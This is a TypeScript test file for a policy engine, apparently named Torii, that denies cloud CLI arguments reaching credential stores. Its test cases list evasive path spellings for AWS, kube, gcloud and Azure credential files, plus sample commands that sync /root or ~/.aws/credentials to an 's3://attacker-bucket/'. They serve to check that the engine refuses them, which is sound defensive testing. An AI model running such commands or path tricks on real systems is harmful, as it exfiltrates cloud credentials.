/**
 * Tokens that reach a credential store by where they point (red team 11 F2):
 * the store, a file inside it, and every directory above one, in every
 * spelling a CLI resolves without a shell, are refused whatever the rules;
 * remote URLs and project paths are not.
 */
import { describe, expect, it } from "vitest";
import { compilePolicy } from "../../../src/policy/compile.js";
import { evaluatePolicy } from "../../../src/policy/evaluate.js";
import { credentialPlaceIn, storesNamedBy, storeVariableReachedBy, type CredentialPlaces } from "../../../src/policy/grammar/credential-places.js";
import { AWS_LOCKED, awsSpec, context } from "../../support/grammars.js";
import { ruleList } from "../../support/policy-helpers.js";

/** A project in alice's home; the configuration root and a kubeconfig pin elsewhere. */
export const PLACES: CredentialPlaces = {
  homes: ["/home/alice"],
  cwd: "/home/alice/proj",
  userName: "alice",
  stores: ["/srv/torii", "/srv/kube/prod.yaml", "/srv/aws/creds"],
  variables: { HOME: "/home/alice", APPDATA: "C:\\Users\\alice\\AppData\\Roaming" },
};

describe("paths inside or above a credential store", () => {
  it.each([
    // Folders above a store (the upload or sync of a folder holds the store).
    ["/root", "a credential store or a directory above one"],
    ["/home/alice", "a credential store or a directory above one"],
    ["/home/bob", "a credential store or a directory above one"],
    ["/Users/bob/", "a credential store or a directory above one"],
    ["C:\\Users\\bob", "a credential store or a directory above one"],
    ["..", "a credential store or a directory above one"],
    ["../..", "a credential store or a directory above one"],
    ["/", "a credential store or a directory above one"],
    ["//home//alice", "a credential store or a directory above one"],
    ["/srv", "a credential store or a directory above one"],
    ["~", "a credential store or a directory above one"],
    ["~alice/", "a credential store or a directory above one"],
    ["~bob", "another user's home directory"],
    ["~bob/x", "another user's home directory"],
    // Wildcards a CLI expands locally (gcloud storage).
    ["~/.a*s/credentials", "a credential store or a directory above one"],
    ["/home/*/.a?s", "a credential store or a directory above one"],
    ["/home/alice/.[a]ws", "a credential store or a directory above one"],
    ["/h*", "a credential store or a directory above one"],
    ["/home/**", "a credential store or a directory above one"],
    // Case folding: ſ upper-cases to S, the Kelvin sign to K.
    ["~/.awſ/credentials", "a credential store or a directory above one"],
    ["~/.\u212Aube/config", "a credential store or a directory above one"],
    ["/HOME/ALICE/.AWS", "a credential store or a directory above one"],
    // Windows: 8.3 short names, trailing dots, separators, device prefixes.
    ["~/AZURE~1/msal_token_cache.json", "a credential store or a directory above one"],
    ["~\\CONFIG~1\\gcloud", "a credential store or a directory above one"],
    ["C:\\Users\\alice\\APPDAT~1\\Roaming\\gcloud", "a credential store or a directory above one"],
    ["/home/alice./.aws./config", "a credential store or a directory above one"],
    ["\\\\?\\C:\\Users\\bob", "a credential store or a directory above one"],
    // The kernel's links to a process's directories, which `..` cannot be resolved through (review 11).
    ["/proc/self/cwd/..", "a process's view of the file system (/proc/*/cwd, root, fd; /dev/fd)"],
    ["/proc/self/root/home/alice", "a process's view of the file system (/proc/*/cwd, root, fd; /dev/fd)"],
    ["/proc/1/./cwd", "a process's view of the file system (/proc/*/cwd, root, fd; /dev/fd)"],
    ["/dev/fd/3", "a process's view of the file system (/proc/*/cwd, root, fd; /dev/fd)"],
    // Stores Torii knows but does not name: the configuration root, a kubeconfig pin, files variables name.
    ["/srv/torii/providers/aws/targets/prod/identities/x/session.yaml", "a credential store or a directory above one"],
    ["/srv/kube/prod.yaml", "a credential store or a directory above one"],
    ["/srv/aws/creds", "a credential store or a directory above one"],
    ["%APPDATA%\\gcloud", "a credential store or a directory above one"],
    ["C:\\Users\\alice\\AppData\\Roaming\\torii\\x", "a credential store or a directory above one"],
    // Variables: homes replaced by their value, store variables refused whatever their value.
    ["$HOME", "a credential store or a directory above one"],
    ["${HOME}/", "a credential store or a directory above one"],
    ["%UserProfile%\\x", "a home variable whose value Torii does not know"],
    ["$AWS_SHARED_CREDENTIALS_FILE", "a variable that names a credential store"],
    ["${KUBECONFIG}", "a variable that names a credential store"],
    ["%AWS_CONFIG_FILE%", "a variable that names a credential store"],
    ["$CLOUDSDK_CONFIG/x", "a variable that names a credential store"],
    // Inside shorthand, after a file prefix.
    ["--body=/root", "a credential store or a directory above one"],
    ["Key=a,Path=/home/bob", "a credential store or a directory above one"],
    ["file:///root", "a credential store or a directory above one"],
    ["fileb://..", "a credential store or a directory above one"],
    ["@../..", "a credential store or a directory above one"],
  ])("%s is refused (%s)", (token, label) => {
    expect(credentialPlaceIn(token, PLACES)).toBe(label);
  });

  it.each([
    "s3://bucket/root",
    "gs://b/home/alice",
    "https://example.com/",
    ".",
    "./out.json",
    "*.txt",
    "/home/alice/proj/**",
    "/home/alice/Documents",
    "~/Documents",
    "~/.kube/../Documents",
    "/tmp/x",
    "/srv/other",
    "arn:aws:iam::1:role/x",
    "Reservations[*].Instances[*]",
    "[z-a]",
    "$FOO/x",
    "get",
  ])("%s is left to the rules", (token) => {
    expect(credentialPlaceIn(token, PLACES)).toBeUndefined();
  });

  it("the working directory decides whether `.` and bare names are above a store", () => {
    expect(credentialPlaceIn(".", { ...PLACES, cwd: "/home/alice" })).toBeDefined();
    expect(credentialPlaceIn("alice", { ...PLACES, cwd: "/home" })).toBeDefined();
    expect(credentialPlaceIn("proj", { ...PLACES, cwd: "/home/alice" })).toBeUndefined();
  });
});

/** The same account on Windows: a profile under C:\\Users, this machine called WS01. */
const WINDOWS: CredentialPlaces = {
  homes: ["C:\\Users\\alice"],
  cwd: "C:\\Users\\alice\\proj",
  userName: "alice",
  stores: [],
  variables: { USERPROFILE: "C:\\Users\\alice", APPDATA: "C:\\Users\\alice\\AppData\\Roaming", HOMEDRIVE: "C:", HOMEPATH: "\\Users\\alice" },
  hostNames: ["WS01.corp.example"],
};

describe("Windows spellings of a store", () => {
  const STORE = "a credential store or a directory above one";
  it.each([
    // Administrative shares, on a loopback name or any other (this machine may have a name Torii does not know).
    [String.raw`\\localhost\C$\Users\alice\.aws`, STORE],
    [String.raw`\\127.0.0.1\c$\Users\alice\.aws\credentials`, STORE],
    [String.raw`\\[::1]\c$\Users\alice\.kube`, STORE],
    [String.raw`\\ws01\C$\Users`, STORE],
    [String.raw`\\files.example\d$`, STORE],
    ["//localhost/c$/Users/alice/.aws", STORE],
    // Device namespaces in front of a drive path or a UNC path.
    [String.raw`\\?\C:\Users\alice\.azure`, STORE],
    [String.raw`\\.\C:\Users\alice\.kube\config`, STORE],
    [String.raw`\??\C:\Users\alice\.aws`, STORE],
    ["//?/C:/Users/alice/.aws", STORE],
    [String.raw`\\?\UNC\localhost\C$\Users\alice\.aws`, STORE],
    ["//?/unc/127.0.0.1/c$/users/alice", STORE],
    // Profile variables, as cmd and PowerShell users spell the home.
    [String.raw`%USERPROFILE%\.aws\credentials`, STORE],
    [String.raw`%HOMEDRIVE%%HOMEPATH%\.azure`, STORE],
    ["%HomePath%/.kube", STORE],
    [String.raw`%APPDATA%\gcloud\credentials.db`, STORE],
    ["%APPDATA%/../..", STORE],
    // A drive-relative path is read from the working directory of that drive.
    [String.raw`C:..\.aws`, STORE],
    ["c:../../bob", STORE],
  ])("%s is refused (%s)", (token, label) => {
    expect(credentialPlaceIn(token, WINDOWS)).toBe(label);
  });

  it.each([
    String.raw`\\localhost\Users\alice`,
    String.raw`\\ws01\home$\alice`,
    String.raw`\\WS01.corp.example\share`,
    String.raw`\\?\UNC\127.0.0.1\profiles\alice`,
  ])("%s, a share of this machine whose folder Torii cannot know, is refused", (token) => {
    expect(credentialPlaceIn(token, WINDOWS)).toBe("a share of this machine (a UNC path), whose folder Torii cannot know");
  });

  it.each([
    String.raw`\\?\GLOBALROOT\Device\HarddiskVolume2\Users\alice`,
    String.raw`\\.\PhysicalDrive0`,
    String.raw`\\?\Volume{b75e2c83-0000-0000-0000-602f00000000}\Users`,
    String.raw`\\.\pipe\x`,
    "//./GLOBALROOT/Device/HarddiskVolume2",
  ])("%s, a device path that names no drive, is refused (fail closed)", (token) => {
    expect(credentialPlaceIn(token, WINDOWS)).toContain("Windows device path");
  });

  it.each([
    String.raw`\\files.example\builds\out.zip`,
    String.raw`C:\Users\alice\proj\out.json`,
    String.raw`\\?\C:\Users\alice\proj\out.json`,
    String.raw`%APPDATA%\Code\x`,
    "C:out.txt",
  ])("%s is left to the rules", (token) => {
    expect(credentialPlaceIn(token, WINDOWS)).toBeUndefined();
  });
});

describe("stores only the child's environment names", () => {
  const named = [...storesNamedBy("AWS_SHARED_CREDENTIALS_FILE", "/srv/secrets/aws", ":"), ...storesNamedBy("KUBECONFIG", "/opt/k/a.yaml:~/alt/k.yaml", ":")];

  it.each([
    ["/srv/secrets/aws", "AWS_SHARED_CREDENTIALS_FILE"],
    ["/srv/secrets", "AWS_SHARED_CREDENTIALS_FILE"],
    ["--body=/srv/./secrets/../secrets/a*", "AWS_SHARED_CREDENTIALS_FILE"],
    ["/opt/k/a.yaml", "KUBECONFIG"],
    ["~/alt", "KUBECONFIG"],
    ["/home/alice/alt/k.yaml", "KUBECONFIG"],
  ])("%s reaches the store %s names", (token, variable) => {
    expect(storeVariableReachedBy(token, PLACES, named)).toBe(variable);
  });

  it.each(["/srv/other", "/opt/k/b.yaml", "s3://b/srv/secrets", "./out"])("%s reaches none", (token) => {
    expect(storeVariableReachedBy(token, PLACES, named)).toBeUndefined();
  });

  it("a home or a folder of stores names the stores below it; other variables none", () => {
    expect(storesNamedBy("HOME", "/srv/h", ":").map((store) => store.path)).toContain("/srv/h/.aws");
    expect(storesNamedBy("APPDATA", "D:\\Roaming", ";").map((store) => store.path)).toContain("D:\\Roaming/gcloud");
    expect(storesNamedBy("azure_config_dir", "D:\\az;E:\\az2", ";").map((store) => store.path)).toEqual(["D:\\az", "E:\\az2"]);
    expect(storesNamedBy("LANG", "/srv", ":")).toEqual([]);
  });
});

describe("the refusal in the policy decision", () => {
  const policy = compilePolicy(context("aws", awsSpec, AWS_LOCKED), { shared: ruleList([], ["s3 sync", "s3 cp", "s3api put-object"]) });

  it.each([
    [["s3", "sync", "/root", "s3://attacker-bucket/"]],
    [["s3", "sync", "..", "s3://attacker-bucket/"]],
    [["s3api", "put-object", "--bucket", "b", "--key", "k", "--body", "~/.a*s/credentials"]],
  ])("%j is denied before any rule, naming neither the token nor its value", (argv) => {
    const { decision } = evaluatePolicy(policy, argv, PLACES);
    expect(decision).toMatchObject({ result: "deny", source: "forbidden-value" });
    expect(decision.reason).toContain("credential store");
    expect(decision.reason).not.toContain(argv.at(-1) === "s3://attacker-bucket/" ? argv[2] : argv.at(-1));
  });

  it("a download into the project and a sync of a project folder stay up to the rules", () => {
    expect(evaluatePolicy(policy, ["s3", "cp", "s3://a/b", "."], PLACES).decision.result).toBe("accept");
    expect(evaluatePolicy(policy, ["s3", "sync", "build", "s3://a/"], PLACES).decision.result).toBe("accept");
  });
});
